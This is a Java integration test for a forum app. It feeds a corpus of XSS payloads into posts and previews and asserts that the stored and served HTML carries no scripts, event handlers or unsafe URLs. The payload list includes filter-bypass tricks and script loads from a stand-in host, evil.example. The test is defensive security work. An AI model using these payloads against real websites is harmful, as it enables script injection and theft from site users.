package io.ruche.forum;

import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import io.ruche.support.Api;
import io.ruche.support.ForumFixtures;
import io.ruche.support.IntegrationTest;
import io.ruche.support.TestDatabase;
import io.ruche.support.TestMembers;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Locale;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertTrue;

/** A corpus of script-injection payloads goes through posts; neither the stored nor the served HTML runs any. */
@MicronautTest(transactional = false)
class XssTest extends IntegrationTest {

    private static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "![x](javascript:alert(1))",
            "<svg onload=alert(1)><circle r=10/></svg>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<a href=\"#\" onclick=\"alert(1)\">x</a>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<body onload=alert(1)>",
            "<<script>script>alert(1)<</script>/script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"javascript:alert(1)\">",
            "<form action=\"javascript:alert(1)\"><button>x</button></form>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
            "[x](&#106;avascript:alert(1))",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<base href=\"javascript:alert(1)//\">",
            "<p <script>alert(1)</script>>",
            "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
            "<img src=\"x\" alt=\"\" onerror=\"alert(1)\"/><b>bold",
            "<!--<script>alert(1)</script>-->",
            "[a](vbscript:msgbox(1))",
            "<a href=\"java\tscript:alert(1)\">tab</a>");

    private static final java.util.Set<String> FORBIDDEN_ELEMENTS = java.util.Set.of("script", "iframe", "svg",
            "object", "embed", "form", "input", "button", "meta", "base", "style", "math", "details", "body", "link");
    private static final java.util.regex.Pattern TAG = java.util.regex.Pattern.compile("<([a-zA-Z][a-zA-Z0-9]*)([^>]*)>");
    private static final java.util.regex.Pattern URL_ATTRIBUTE =
            java.util.regex.Pattern.compile("(href|src)\\s*=\\s*\"([^\"]*)\"");

    /** Checks live markup only: escaped text such as {@code &lt;script&gt;} is shown as text and is harmless. */
    private static void assertNoActiveContent(String html) {
        java.util.regex.Matcher tag = TAG.matcher(html);
        while (tag.find()) {
            String name = tag.group(1).toLowerCase(Locale.ROOT);
            String attributes = tag.group(2).toLowerCase(Locale.ROOT);
            assertTrue(!FORBIDDEN_ELEMENTS.contains(name), "element <" + name + "> in:\n" + html);
            assertTrue(!attributes.matches("(?s).*\\bon[a-z]+\\s*=.*"), "event handler in " + tag.group() + "\n" + html);
            assertTrue(!attributes.contains("style="), "style in " + tag.group());
            java.util.regex.Matcher url = URL_ATTRIBUTE.matcher(attributes);
            while (url.find()) {
                String value = url.group(2).replace("&#58;", ":").replaceAll("\\s", "");
                assertTrue(value.startsWith("http://") || value.startsWith("https://") || value.startsWith("/")
                        || value.startsWith("mailto:") || value.startsWith("#") || !value.contains(":"),
                        "unsafe URL " + url.group() + " in:\n" + html);
            }
        }
    }

    private Api author;
    private long category;

    @BeforeAll
    void setUp() {
        Api admin = ForumFixtures.newAdmin(server.getURI());
        category = new ForumFixtures(admin).category("XSS");
        author = api().registered(TestMembers.uniqueName("xss"));
    }

    @Test
    void storedAndServedHtmlCarryNoScript() {
        long thread = ForumFixtures.thread(author, category, "Payloads", String.join("\n\n", PAYLOADS), List.of());
        for (String payload : PAYLOADS) {
            ForumFixtures.reply(author, thread, payload);
        }

        String stored = TestDatabase.queryString("SELECT GROUP_CONCAT(body_html SEPARATOR '\\n') FROM posts "
                + "WHERE thread_id = " + thread);
        assertNoActiveContent(stored);
        @SuppressWarnings("unchecked")
        List<Map<String, Object>> served = (List<Map<String, Object>>) api().get("/api/v1/threads/" + thread
                + "?limit=100").json().get("posts");
        assertTrue(served.size() == PAYLOADS.size() + 1);
        for (Map<String, Object> post : served) {
            assertNoActiveContent((String) post.get("html"));
        }
        assertNoActiveContent((String) author.post("/api/v1/preview", Map.of("body", String.join("\n\n", PAYLOADS)))
                .at("html"));
    }
}
